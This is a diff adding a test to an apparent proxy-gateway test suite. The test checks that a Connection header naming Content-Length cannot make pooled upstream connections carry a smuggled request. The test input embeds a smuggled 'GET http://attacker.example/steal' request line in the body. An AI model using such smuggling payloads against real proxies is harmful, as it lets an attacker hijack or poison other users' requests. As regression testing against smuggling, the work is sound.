@@ -218,6 +218,25 @@ describe('kept-alive upstream connections for absolute-form plain HTTP', () => {
     expect(seen.head).not.toContain(AUTH);
   });
 
+  it('a Connection header listing Content-Length cannot unframe a body onto a pooled connection (no smuggling)', async () => {
+    const smuggled = `GET http://attacker.example/steal HTTP/1.1\r\nX-Ignore: `;
+    const before = scripted.state.seen.length;
+    const attack = await rawExchange(
+      gw.proxyPort,
+      `GET http://${SCRIPTED}/echo HTTP/1.1\r\nHost: ${SCRIPTED}\r\nProxy-Authorization: ${AUTH}\r\n` +
+        `Connection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    );
+    expect(attack.text).toMatch(/^HTTP\/1\.1 200/);
+    // The next client's request, on whatever pooled connection the gateway picks: its own answer.
+    const victim = await viaGateway(gw, `http://${SCRIPTED}/cl`);
+    expect(victim.status).toBe(200);
+    const seen = scripted.state.seen.slice(before);
+    expect(seen.map((x) => x.url)).toEqual([`http://${SCRIPTED}/echo`, `http://${SCRIPTED}/cl`]);
+    expect(seen[0]!.head).toMatch(new RegExp(`\r\nContent-Length: ${smuggled.length}(\r\n|$)`));
+    expect(seen[0]!.body.toString('latin1')).toBe(smuggled);
+    await expectNoLoad(gw);
+  });
+
   it('a response slower than the idle timeout still arrives; idle connections are closed by the gateway', async () => {
     const r = await viaGateway(gw, `http://${SCRIPTED}/slow`);
     expect(r).toMatchObject({ status: 200, body: Buffer.from('slow') });
